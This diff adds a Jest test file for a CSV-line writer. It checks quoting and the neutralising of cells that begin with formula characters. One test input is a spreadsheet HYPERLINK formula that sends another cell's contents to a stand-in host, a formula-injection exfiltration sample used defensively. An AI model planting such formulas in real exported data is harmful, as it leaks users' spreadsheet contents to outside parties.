@@ -1,0 +1,32 @@
+import { describe, expect, test } from '@jest/globals';
+import { csvLine } from './csv';
+
+describe('a line of CSV', () => {
+  const cells: readonly [what: string, cell: string, written: string][] = [
+    ['plain text', 'Budi', '"Budi"'],
+    ['nothing', '', '""'],
+    ['separators', 'a,b;c\td', '"a,b;c\td"'],
+    ['quotes', 'a "b" c', '"a ""b"" c"'],
+    ['line breaks', 'a\nb\r\nc', '"a\nb\r\nc"'],
+    ['a formula', '=1+1', '"\'=1+1"'],
+    [
+      'a formula that calls',
+      '=HYPERLINK("http://x.example?"&A1)',
+      '"\'=HYPERLINK(""http://x.example?""&A1)"',
+    ],
+    ['a telephone number', '+62 812', '"\'+62 812"'],
+    ['a negative number', '-5', '"\'-5"'],
+    ['a name', '@budi', '"\'@budi"'],
+    ['a tab', '\t=1', '"\'\t=1"'],
+    ['a carriage return', '\r=1', '"\'\r=1"'],
+    ['a line feed', '\nx', '"\'\nx"'],
+    ['blanks before a formula', '  =1', '"\'  =1"'],
+    ['a byte order mark before a formula', '\u{feff}=1', '"\'\u{feff}=1"'],
+    ['wide signs', '＝1', '"\'＝1"'],
+    ['signs further on', 'a=1', '"a=1"'],
+    ['an apostrophe', "'=1", '"\'=1"'],
+  ];
+  test.each(cells)('holds %s', (_, cell, written) => {
+    expect(csvLine([cell, 'x'])).toBe(`${written},"x"\r\n`);
+  });
+});
